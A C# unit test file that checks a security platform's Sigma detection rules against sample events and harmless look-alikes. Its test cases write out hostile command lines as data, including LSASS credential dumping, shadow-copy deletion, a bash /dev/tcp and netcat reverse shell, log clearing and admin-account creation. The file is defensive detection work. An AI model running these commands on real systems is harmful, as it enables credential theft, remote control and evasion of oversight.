using System.Text.Json;
using Platform.Contracts;
using Platform.Risk.Security;
using Platform.Sigma;

namespace Platform.Risk.Tests;

/// <summary>The rules that ship: each fires for what it is about, and not for what looks like it.</summary>
public sealed class SigmaRulesTests
{
    private const string Win = @"C:\Windows\System32\";
    private static readonly SigmaRuleSet rules = new([.. Files().SelectMany(file => SigmaRuleFile.Parse(File.ReadAllText(file), file))]);

    public static TheoryData<string, string, string> Cases => new()
    {
        { "lsass-memory-dump", "process windows", Process($"{Win}rundll32.exe", "rundll32 comsvcs.dll MiniDump 612 lsass.dmp full") },
        { "lsass-memory-dump", "process windows", Process(@"C:\t\procdump64.exe", "procdump64 -ma lsass.exe out") },
        { "shadow-copies-deleted", "process windows", Process($"{Win}vssadmin.exe", "vssadmin delete shadows /all /quiet") },
        { "encoded-powershell", "process windows", Process($"{Win}powershell.exe", $"powershell -nop -enc {new string('A', 60)}=") },
        { "office-starts-shell", "process windows", Process($"{Win}cmd.exe", "cmd /c dir", @"C:\Office\WINWORD.EXE") },
        { "linux-reverse-shell", "process linux", Process("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") },
        { "linux-reverse-shell", "process linux", Process("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444") },
        { "logging-switched-off", "process windows", Process($"{Win}wevtutil.exe", "wevtutil cl Security") },
        { "logging-switched-off", "process linux", Process("/usr/bin/systemctl", "systemctl stop auditd") },
        { "new-admin-account", "process windows", Process($"{Win}net.exe", "net localgroup Administrators eve /add") },
        { "cloud-logging-stopped", "cloud aws", """{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}""" },
        { "cloud-root-sign-in", "cloud aws", """{"eventName":"ConsoleLogin","userIdentity.type":"Root"}""" },
        { "web-path-traversal", "web nginx", """{"url.original":"/a?file=../../../../etc/passwd"}""" },
        { "dns-long-name", "dns windows", $$"""{"QueryName":"{{new string('a', 60)}}.{{new string('b', 40)}}.example.com"}""" },
        { "ssh-many-wrong-passwords", "authentication linux sshd", """{"message":"error: Too many authentication failures"}""" },
    };

    public static TheoryData<string, string> Harmless => new()
    {
        { "process windows", Process(@"C:\t\procdump64.exe", "procdump64 -ma notepad.exe out") },
        { "process windows", Process($"{Win}vssadmin.exe", "vssadmin list shadows") },
        { "process windows", Process($"{Win}powershell.exe", "powershell -ExecutionPolicy Bypass -File a.ps1") },
        { "process windows", Process($"{Win}cmd.exe", "cmd /c dir", $"{Win}explorer.exe") },
        { "process linux", Process("/usr/bin/nc", "nc -zv 10.0.0.1 22") },
        { "process linux", Process("/usr/bin/systemctl", "systemctl restart auditd") },
        { "cloud aws", """{"eventSource":"cloudtrail.amazonaws.com","eventName":"DescribeTrails"}""" },
        { "web nginx", """{"url.original":"/a?file=../style.css"}""" },
        { "dns windows", """{"QueryName":"www.example.com"}""" },
        { "authentication linux sshd", """{"message":"Accepted publickey for ann"}""" },
    };

    [Theory, MemberData(nameof(Cases))]
    public void A_shipped_rule_fires_for_what_it_is_about(string file, string source, string fields)
    {
        var own = Assert.Single(SigmaRuleFile.Parse(File.ReadAllText(Files().Single(path => path.EndsWith($"{file}.yml"))), file));

        Assert.Contains(rules.Match(SigmaEvents.Of(Event(source, fields))), match => match.Rule.Id == own.Id);
    }

    [Theory, MemberData(nameof(Harmless))]
    public void No_shipped_rule_fires_for_what_only_looks_like_it(string source, string fields) =>
        Assert.Empty(rules.Match(SigmaEvents.Of(Event(source, fields))).Select(match => match.Rule.Title));

    [Fact]
    public void Every_shipped_rule_says_who_wrote_it_what_it_means_and_has_an_id_of_its_own()
    {
        Assert.InRange(rules.Rules.Count, 8, 15);
        Assert.All(rules.Rules, rule => Assert.Equal(("Platform", "Apache-2.0"), (rule.Author, rule.License)));
        Assert.All(rules.Rules, rule => Assert.NotEmpty(rule.Techniques));
        Assert.Equal(rules.Rules.Count, rules.Rules.Select(rule => rule.Id).Distinct().Count());
    }

    [Fact]
    public void A_threat_names_the_rule_its_evidence_and_the_entity_and_has_the_same_id_each_time()
    {
        var e = Event("process windows", Process($"{Win}net.exe", "net localgroup Administrators eve /add")) with { User = "ann" };

        var threat = Assert.Single(Threats("demo", e));

        Assert.Equal(("persistence", RiskLevel.Medium, 0.75, "sigma"), (threat.Type, threat.Severity, threat.Confidence, threat.Source));
        Assert.Equal(("Platform", "Apache-2.0"), (threat.Rule!.Author, threat.Rule.License));
        Assert.Equal(new("user", "ann"), threat.Entity);
        Assert.Equal(["T1098"], threat.AttackTechniques);
        Assert.Contains(threat.Indicators, indicator => indicator.Name is "CommandLine");
        Assert.NotEmpty(threat.RecommendedActions);
        Assert.Equal(threat.Id, Threats("demo", e)[0].Id);
        Assert.NotEqual(threat.Id, Threats("other", e)[0].Id);
        Assert.NotEqual(threat.Id, Threats("demo", e with { Id = "e-2" })[0].Id);
    }

    [Fact]
    public void The_senders_own_field_stands_before_the_entity_of_the_same_name()
    {
        var e = Event("process windows", """{"user.name":["a","b"]}""") with { User = "ann", Host = "pc" };

        Assert.Equal(["a", "b"], SigmaEvents.Of(e).Values("user.name").Select(value => value.Text));
        Assert.Equal(["pc"], SigmaEvents.Of(e).Values("Computer").Select(value => value.Text));
    }

    private static List<ThreatEvent> Threats(string tenant, SecurityEvent e) =>
        [.. DetectThreats.ThreatsOf(new(tenant), e, rules.Match(SigmaEvents.Of(e)))];

    private static SecurityEvent Event(string source, string fields)
    {
        var parts = source.Split(' ');
        return new()
        {
            Id = "e-1", Time = new(2026, 5, 4, 12, 0, 0, TimeSpan.Zero),
            Kind = Enum.Parse<SecurityEventKind>(parts[0], ignoreCase: true),
            Source = new(parts[1], Service: parts.ElementAtOrDefault(2)),
            Fields = JsonElement.Parse(fields).EnumerateObject().ToDictionary(field => field.Name, field => field.Value),
        };
    }

    private static string Process(string image, string commandLine, string parent = "") =>
        JsonSerializer.Serialize(
            new Dictionary<string, string> { ["Image"] = image, ["CommandLine"] = commandLine, ["ParentImage"] = parent });

    private static string[] Files() => Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "sigma"), "*.yml");
}
